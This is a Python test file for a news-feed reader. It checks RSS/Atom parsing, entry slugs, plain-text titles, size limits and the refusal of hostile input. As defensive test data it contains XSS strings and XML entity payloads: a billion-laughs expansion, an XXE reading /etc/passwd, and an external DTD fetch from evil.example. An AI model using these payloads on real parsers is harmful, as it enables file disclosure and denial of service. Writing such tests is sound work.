"""Feeds read safely: RSS 2.0, RSS 1.0 (RDF) and Atom; limits; hostile documents refused; entries'
keys, links, plain titles, full content and stable slugs."""

from __future__ import annotations

import pytest

from audio_edition.follow import feeds
from audio_edition.follow.entries import entry_slug, plain_text
from audio_edition.follow.feeds import NotAFeed, read_feed
from tests.follow.news import MARKET
from tests.follow.site import atom, rss

URL = "https://news.example/feed.xml"
RDF = """<?xml version="1.0"?>
<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/"
 xmlns:dc="http://purl.org/dc/elements/1.1/">
 <channel rdf:about="https://news.example/"><title>Courier</title><link>https://news.example/</link>
  <description>News</description><dc:language>de</dc:language></channel>
 <item rdf:about="https://news.example/a"><title>Bridge reopens</title><link>https://news.example/a</link>
  <dc:creator>Mara Quinn</dc:creator><dc:date>2026-03-04T09:00:00Z</dc:date></item>
</rdf:RDF>"""


def test_rss_1_rss_2_and_atom_are_read() -> None:
    rdf = read_feed(RDF.encode(), URL)
    (entry,) = rdf.entries
    assert rdf.language == "de" and entry.key == entry.link == "https://news.example/a"
    assert entry.title == "Bridge reopens" and entry.author == "Mara Quinn" and entry.date is not None
    assert entry.date.isoformat() == "2026-03-04T09:00:00+00:00" and entry.content is None

    item = {"title": "T", "link": "/news/t", "guid": "id-1", "date": "Wed, 04 Mar 2026 09:00:00 GMT"}
    (two,) = read_feed(rss("Courier", [item]).encode(), URL).entries
    assert two.key == "id-1" and two.link == "https://news.example/news/t"  # relative link resolved

    content = "".join(f"<p>{p}</p>" for p in MARKET[2])
    entries = [
        {"title": "Whole", "link": "https://x.example/1", "id": "tag:1", "updated": "2026-03-04T09:00:00Z"}
        | {"content": content},
        {"title": "Teaser", "link": "https://x.example/2", "id": "tag:2", "updated": "2026-03-03T09:00:00Z"}
        | {"content": "<p>Read on.</p>"},
    ]
    whole, teaser = read_feed(atom("Courier", entries).encode(), URL).entries
    assert whole.content is not None and "Thirty stalls" in whole.content and whole.content_type == "html"
    assert teaser.content is None  # one paragraph: the page is read instead


def test_an_entry_changes_digest_when_it_changes_and_keeps_its_slug_when_its_key_stays() -> None:
    item = {
        "title": "Ferry back",
        "link": "https://x.example/f",
        "guid": "g-7",
        "date": "Wed, 04 Mar 2026 09:00:00 GMT",
    }
    (before,) = read_feed(rss("C", [item]).encode(), URL).entries
    (after,) = read_feed(rss("C", [item | {"summary": "Corrected"}]).encode(), URL).entries
    assert before.digest != after.digest and entry_slug(before) == entry_slug(after)
    assert entry_slug(before).startswith("ferry-back-") and len(entry_slug(before)) == len("ferry-back-") + 8
    (other,) = read_feed(rss("C", [item | {"guid": "g-8"}]).encode(), URL).entries
    assert entry_slug(other) != entry_slug(before)  # the same headline twice: two names


@pytest.mark.parametrize(
    ("title", "plain"),
    [
        ("Budget <b>passes</b>", "Budget passes"),
        ("<script>alert(1)</script>Rates &amp; fees", "Rates & fees"),
        ("Profits < forecast", "Profits ‹ forecast"),
        ("&lt;img src=x onerror=alert(1)&gt;", "‹img src=x onerror=alert(1)›"),
    ],
)
def test_titles_are_plain_text(title: str, plain: str) -> None:
    assert plain_text(title) == plain


@pytest.mark.parametrize(
    "body",
    [
        b"<html><body><p>A page.</p></body></html>",
        b"",
        b"/etc/hostname",  # given as bytes, feedparser would open this file
        bytes(range(256)),
    ],
)
def test_what_is_no_feed_is_refused(body: bytes) -> None:
    with pytest.raises(NotAFeed, match="is not a feed"):
        read_feed(body, URL)


def test_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    many = rss("C", [{"title": f"t{i}", "link": f"/{i}", "guid": str(i), "date": ""} for i in range(5_001)])
    with pytest.raises(NotAFeed, match="5,001 entries"):
        read_feed(many.encode(), URL)
    monkeypatch.setattr(feeds, "MAX_FEED_BYTES", 1000)
    with pytest.raises(NotAFeed, match="larger than"):
        read_feed(b" " * 1001, URL)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>',
        '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>',
    ],
)
def test_entity_declarations_are_refused(doctype: str) -> None:
    body = f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel><title>T</title></channel></rss>'
    with pytest.raises(NotAFeed, match="declares XML entities"):
        read_feed(body.encode(), URL)
    broken = body.replace("</channel>", "")  # not well-formed: feedparser's loose reader is not reached
    with pytest.raises(NotAFeed, match="declares XML entities"):
        read_feed(broken.encode(), URL)


def test_an_rss_091_doctype_naming_its_dtd_is_read() -> None:
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    body = rss("C", [{"title": "T", "link": "https://x.example/t", "guid": "g", "date": ""}])
    body = body.replace("<rss", doctype + "<rss", 1)
    assert len(read_feed(body.encode(), URL).entries) == 1
